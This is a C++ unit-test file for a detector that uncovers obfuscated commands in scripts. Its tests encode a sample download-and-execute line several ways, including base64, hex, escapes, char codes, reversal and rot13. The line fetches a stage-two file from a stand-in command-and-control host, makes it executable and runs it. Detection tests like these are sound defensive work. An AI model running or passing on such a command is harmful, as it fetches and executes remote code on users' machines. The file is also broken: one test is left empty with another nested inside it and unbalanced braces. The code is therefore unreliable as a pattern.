#include <gtest/gtest.h>

#include <random>

#include "evidence/recorder.h"
#include "parse/mutants.h"

namespace examine {
const evidence::Reader& concealment();

namespace {

using namespace std::string_literals;
using namespace std::string_view_literals;
using evidence::Confidence;
using evidence::Facet;

evidence::Reading look(std::string_view text, std::string_view kind = "script/shell", std::string_view name = "x") { return evidence::read_alone(concealment(), base::bytes_of(text), kind, name); }
std::vector<evidence::Item> hidden(const evidence::Reading& r, std::string_view word) { return r.sink.all(Facet::concealment, word); }
std::string child(const evidence::Reading& r) { return r.sink.children.empty() ? "none" : r.sink.children[0].entry.name + ":" + std::string(base::text_of(r.sink.children[0].bytes)); }

std::string base64(std::string_view text) {
  constexpr std::string_view alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < text.size(); i += 3) {
    unsigned value = 0;
    for (std::size_t k = 0; k < 3; ++k) value = value << 8 | (i + k < text.size() ? static_cast<unsigned char>(text[i + k]) : 0u);
    for (std::size_t k = 0; k < 4; ++k) out += i + k > text.size() ? '=' : alphabet[value >> (18 - 6 * k) & 63];
  }
  return out;
}
std::string hex(std::string_view text) { return base::to_hex(base::bytes_of(text)); }
std::string noise(std::size_t size, unsigned seed = 1) {
  std::mt19937 random(seed);
  std::string out;
  for (std::size_t i = 0; i < size; ++i) out += static_cast<char>(random());
  return out;
}
const std::string payload = "curl -s http://c2.vendor.invalid/stage2 -o /tmp/.s && chmod +x /tmp/.s && /tmp/.s";

TEST(Concealment, Base64OfCommandsIsOpened) {
  const auto r = look("x='" + base64(payload) + "'\necho $x");
  ASSERT_EQ(hidden(r, "decoded-string").size(), 1u);
  EXPECT_EQ(hidden(r, "decoded-string")[0].confidence, Confidence::medium);
  EXPECT_EQ(hidden(r, "decoded-string")[0].attributes.at("layer"), "base64");
  EXPECT_EQ(child(r), "base64@3:" + payload);
  EXPECT_EQ(r.sink.children[0].entry.origin, artifact::Origin::decoded);
}

TEST(Concealment, Base64OverSeveralLinesAndPieces) {
  const auto encoded = base64(payload + payload);
  std::string lines, pieces;
  for (std::size_t i = 0; i < encoded.size(); i += 60) lines += encoded.substr(i, 60) + "\n", pieces += "  '" + encoded.substr(i, 60) + "' +\n";
  EXPECT_NE(child(look("base64 -d <<E\n" + lines + "E\n")).find(payload + payload), std::string::npos);
  EXPECT_NE(child(look("x = (" + pieces + "'')", "script/python")).find(payload + payload), std::string::npos);
}

TEST(Concealment, OtherLayers) {
  EXPECT_NE(child(look("x=" + hex(payload))).find(payload), std::string::npos);
  std::string escapes, numbers;
  for (const char c : payload) escapes += fmt::format("\\x{:02x}", c), numbers += fmt::format("{},", static_cast<int>(c));
  EXPECT_NE(child(look("printf '" + escapes + "'")).find(payload), std::string::npos);
  EXPECT_NE(child(look("String.fromCharCode(" + numbers + "10)", "script/javascript")).find(payload), std::string::npos);
  auto backwards = base64(payload);
  backwards = {backwards.rbegin(), backwards.rend()};
  EXPECT_NE(child(look("x='" + backwards + "'")).find(payload), std::string::npos);
  EXPECT_EQ(child(look("x='uggc://p2.iraqbe.vainyvq/k'")), "rot13@3:http://c2.vendor.invalid/x");
}

TEST(Concealment, ShortAddressIsOpened) {
  EXPECT_EQ(child(look("u=" + base64("http://c2.vendor.invalid/x") )), "base64@2:http://c2.vendor.invalid/x");
}

TEST(Concealment, WhatIsNotHiddenIsNotStated) {
  TEST(Concealment, TruncatedAndMutated) {
  std::string text = "x='" + base64(payload) + "' \\x41\\x42 72,101,108 " + hex(payload) + " uggc://a.iraqbe \xe2\x80\xae\n";
  for (const char c : "http://x"sv) text += static_cast<char>(c ^ 7);
  for (const auto kind : {"script/shell", "unknown"}) {
    const auto try_it = [&](base::Bytes b) {
      const auto r = evidence::read_alone(concealment(), b, kind);
      for (const auto& item : r.sink.items) ASSERT_LE(item.range.end(), b.size());
      for (const auto& claim : r.sink.claims) ASSERT_LE(claim.range.end(), b.size());
    };
        parse::each_truncation(base::bytes_of(text), try_it);
    parse::each_mutant(base::bytes_of(text), 1000, 9, try_it);
  }
}

}  // namespace
}  // namespace examine
